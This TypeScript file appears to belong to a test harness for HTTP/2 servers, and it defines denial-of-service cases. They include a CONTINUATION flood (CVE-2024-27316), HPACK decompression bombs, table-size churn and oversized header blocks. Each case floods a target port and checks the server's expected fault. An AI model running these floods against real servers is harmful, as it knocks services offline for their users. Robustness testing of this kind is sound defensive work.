import { ATTACK_MS, type Attack } from '../attack.ts';
import {
  chunks,
  END_HEADERS,
  END_STREAM,
  entry,
  entryNamedBy,
  field,
  frame,
  headers,
  indexed,
  NEWEST,
  request,
  TYPE,
  Wire,
} from '../wire.ts';

const REQUESTS = 20_000;
const MOST_BYTES = 32 * 1024 * 1024;
const GET = request('/small');

/** What `head` gives for each stream, as long as it is taken. */
function heads(name: string, faults: readonly string[], head: (id: number) => readonly Buffer[]): Attack {
  return {
    name,
    target: 'usual',
    faults,
    prepare() {
      const frames: Buffer[] = [];
      let size = 0;
      for (let id = 1; id < 2 * REQUESTS && size < MOST_BYTES; id += 2)
        for (const piece of head(id)) {
          frames.push(piece);
          size += piece.length;
        }
      const pieces = chunks(frames);
      return async (port) => {
        const wire = await Wire.greeted(port);
        await wire.flood(pieces, ATTACK_MS, false);
        wire.close();
        return wire.fate;
      };
    },
  };
}

/** One head that does not end. */
function endless(name: string, faults: readonly string[], fragment: Buffer): Attack {
  return heads(name, faults, (id) =>
    id === 1 ? [headers(1, GET, END_STREAM)] : [frame(TYPE.CONTINUATION, 0, 1, fragment)],
  );
}

/** A block in frames as large as they may be. */
function framed(id: number, block: Buffer): Buffer[] {
  const most = 16_384;
  const frames: Buffer[] = [];
  for (let at = 0; at < block.length; at += most) {
    const isLast = at + most >= block.length;
    const part = block.subarray(at, at + most);
    frames.push(
      at === 0
        ? headers(id, part, END_STREAM | (isLast ? END_HEADERS : 0))
        : frame(TYPE.CONTINUATION, isLast ? END_HEADERS : 0, id, part),
    );
  }
  return frames;
}

/** The same bytes, so many times. */
function times(bytes: Buffer, count: number): Buffer {
  return Buffer.concat(Array.from({ length: count }, () => bytes));
}

const LONG = 'v'.repeat(4000);
const SIZE_UPDATES = Buffer.from([0x20, 0x3f, 0xe1, 0x1f]);

export const HEADS: readonly Attack[] = [
  endless('CONTINUATION without end (CVE-2024-27316)', ['continuation_flood'], field('x', 'y')),
  endless('CONTINUATION without end or content', ['continuation_flood'], Buffer.alloc(0)),
  endless('CONTINUATION without end, of 16 KB', ['header_block_too_large'], field('x', 'y'.repeat(16_000))),
  heads('heads in fifteen pieces', [], (id) => [
    headers(id, GET, END_STREAM),
    ...Array.from({ length: 14 }, (_, index) =>
      frame(TYPE.CONTINUATION, index === 13 ? END_HEADERS : 0, id, field('x', 'y')),
    ),
  ]),
  heads('HPACK bomb: an entry of 4 KB, indexed 7 times in each head', [], (id) =>
    id === 1
      ? [headers(1, Buffer.concat([GET, entry('x', LONG)]))]
      : [headers(id, Buffer.concat([GET, times(indexed(NEWEST), 7)]))],
  ),
  heads('HPACK bomb: an entry of 4 KB, indexed 16,000 times in each head', ['head_bomb'], (id) =>
    id === 1
      ? [headers(1, Buffer.concat([GET, entry('x', LONG)]))]
      : [headers(id, Buffer.concat([GET, times(indexed(NEWEST), 16_000)]))],
  ),
  heads('HPACK: a name of 4 KB copied into entry after entry', ['head_bomb'], (id) =>
    id === 1
      ? [headers(1, Buffer.concat([GET, entry('n'.repeat(4000), '')]))]
      : [headers(id, Buffer.concat([GET, times(entryNamedBy(NEWEST, ''), 8000)]))],
  ),
  heads('HPACK: a field of the static table 16,000 times', ['head_bomb', 'rapid_reset'], (id) =>
    framed(id, Buffer.concat([GET, times(indexed(16), 16_000)])),
  ),
  heads('HPACK: the table made smaller and larger 4,000 times', ['compression_error'], (id) => [
    headers(id, Buffer.concat([times(SIZE_UPDATES, 4000), GET])),
  ]),
  heads('HPACK: a table churned by sixty new entries in each head', [], (id) => [
    headers(
      id,
      Buffer.concat([GET, ...Array.from({ length: 60 }, (_, index) => entry(`x-${index}`, `${id}`))]),
    ),
  ]),
  heads('heads of 40 KB', ['rapid_reset'], (id) =>
    framed(id, Buffer.concat([GET, field('x', 'v'.repeat(20_000)), field('y', 'w'.repeat(20_000))])),
  ),
  heads('heads of two thousand fields', ['rapid_reset'], (id) => [
    headers(id, Buffer.concat([GET, times(indexed(16), 2000)])),
  ]),
  heads('heads of 100 KB', ['header_block_too_large'], (id) =>
    framed(id, Buffer.concat([GET, field('x', 'v'.repeat(100_000))])),
  ),
];
